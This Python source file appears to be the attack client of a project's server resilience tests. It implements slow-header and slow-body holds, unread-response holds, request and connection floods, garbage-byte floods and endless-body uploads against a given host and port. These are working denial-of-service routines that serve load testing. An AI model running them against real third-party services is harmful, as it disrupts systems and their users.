"""The client side of an attack on the page: `attack` runs it as a process of its own.

    python attack_client.py KIND HOST PORT CONNECTIONS SECONDS USER

Runs for SECONDS and prints how many requests or connections it made. It changes to the
account USER first if it may. Uses the standard library only, and opens at most
CONNECTIONS connections at a time.
"""

import os
import socket
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Final

__all__ = ["ATTACKS", "request"]

CHUNK: Final = bytes(1 << 16)
WAIT_SECONDS: Final = 0.2
REPLY_BYTES: Final = 1 << 18


@dataclass
class Attacker:
    """The target, the bounds and the open connections of one attack."""

    address: tuple[str, int]
    connections: int
    until: float
    opened: list[socket.socket] = field(default_factory=list)
    count: int = 0

    @property
    def is_over(self) -> bool:
        """Whether the time is over."""
        return time.monotonic() >= self.until

    def connect(self, sent: bytes = b"") -> socket.socket | None:
        """Return a new connection after sending something; None if refused."""
        try:
            connection = socket.create_connection(self.address, 1.0)
            connection.settimeout(WAIT_SECONDS)
            connection.sendall(sent)
        except OSError:
            return None
        return connection

    def hold(self, sent: bytes, trickle: bytes = b"") -> None:
        """Open all connections, send `sent` on each, and then `trickle` slowly."""
        while not self.is_over:
            if len(self.opened) < self.connections:
                connection = self.connect(sent)
                if connection is not None:
                    self.opened.append(connection)
                    self.count += 1
                    continue
            time.sleep(WAIT_SECONDS)
            for connection in tuple(self.opened):
                try:
                    connection.sendall(trickle)
                except OSError:
                    connection.close()
                    self.opened.remove(connection)

    def flood(self, sent: bytes, *, reads: bool = True, threads: int = 1) -> None:
        """Send the same bytes again and again, on one connection for each thread."""
        workers = [
            threading.Thread(target=self._flood, args=(sent, reads), daemon=True)
            for _ in range(min(threads, self.connections))
        ]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join()

    def _flood(self, sent: bytes, reads: bool) -> None:  # noqa: FBT001
        connection: socket.socket | None = None
        while not self.is_over:
            connection = connection or self.connect()
            if connection is None:
                time.sleep(WAIT_SECONDS)
                continue
            try:
                self.count += connection.send(sent) >= len(sent)
                if reads:
                    connection.setblocking(False)  # noqa: FBT003
                    received = connection.recv(REPLY_BYTES)
                    connection.settimeout(WAIT_SECONDS)
                    if not received:
                        raise ConnectionResetError
            except (TimeoutError, BlockingIOError):
                connection.settimeout(WAIT_SECONDS)
            except OSError:
                connection.close()
                connection = None

    def reconnect(self, sent: bytes) -> None:
        """Open a connection for each request, and close it at once."""
        while not self.is_over:
            connection = self.connect(sent)
            if connection is not None:
                connection.close()
                self.count += 1

    def send_endless(self) -> None:
        """Send endless bodies as fast as possible, on some connections."""
        workers = [
            threading.Thread(target=self._send_endless, daemon=True)
            for _ in range(min(8, self.connections))
        ]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join()

    def _send_endless(self) -> None:
        while not self.is_over:
            connection = self.connect(ENDLESS)
            while connection is not None and not self.is_over:
                try:
                    self.count += connection.send(CHUNK) > 0
                except TimeoutError:
                    continue
                except OSError:
                    connection.close()
                    connection = None


def request(target: str, method: str = "GET", fields: str = "") -> bytes:
    """Return the bytes of a request."""
    return f"{method} {target} HTTP/1.1\r\nHost: localhost\r\n{fields}\r\n".encode()


STATUS: Final = request("/api/import/session")
ENDLESS: Final = request(
    "/no/such/path",
    "POST",
    "Content-Type: application/json\r\nContent-Length: 99999999999\r\n",
)
SLOW_BODY: Final = request(
    "/api/retry", "POST", "Content-Type: application/json\r\nContent-Length: 60000\r\n"
)

ATTACKS: Final[dict[str, tuple[str, Callable[[Attacker], None]]]] = {
    "idle connections": ("never send a request", lambda a: a.hold(b"")),
    "slow heads": (
        "send a head byte by byte",
        lambda a: a.hold(b"GET / HTTP/1.1\r\nX: ", b"x"),
    ),
    "slow bodies": ("send a body byte by byte", lambda a: a.hold(SLOW_BODY, b" ")),
    "unread events": (
        "subscribe to the events and read nothing",
        lambda a: a.hold(request("/api/events")),
    ),
    "unread answers": (
        "request a large answer and read nothing",
        lambda a: a.hold(request("/api/openapi.json") * 20),
    ),
    "flood, one connection": (
        "send requests without waiting",
        lambda a: a.flood(STATUS * 20),
    ),
    "flood, many connections": (
        "the same on many connections",
        lambda a: a.flood(STATUS, threads=a.connections),
    ),
    "flood of searches": (
        "send requests that read the whole library",
        lambda a: a.flood(request("/api/files?query=a&per=200"), threads=64),
    ),
    "flood of new connections": (
        "open a connection for each request",
        lambda a: a.reconnect(STATUS),
    ),
    "flood of errors": (
        "send bytes that are not HTTP",
        lambda a: a.reconnect(b"\x16\x03\x01" * 50 + b"\r\n\r\n"),
    ),
    "flood of bytes": (
        "send an endless body to an unknown path",
        lambda a: a.send_endless(),
    ),
}
"""What each attack does, and the function that does it, by its name."""


def main() -> None:
    """Run the attack that the command line names."""
    kind, host, port, connections, seconds, user = sys.argv[1:]
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(int(user))
        os.setuid(int(user))
    until = time.monotonic() + float(seconds)
    attacker = Attacker((host, int(port)), int(connections), until)
    ATTACKS[kind][1](attacker)
    print(attacker.count, flush=True)  # noqa: T201
    os._exit(0)


if __name__ == "__main__":
    main()
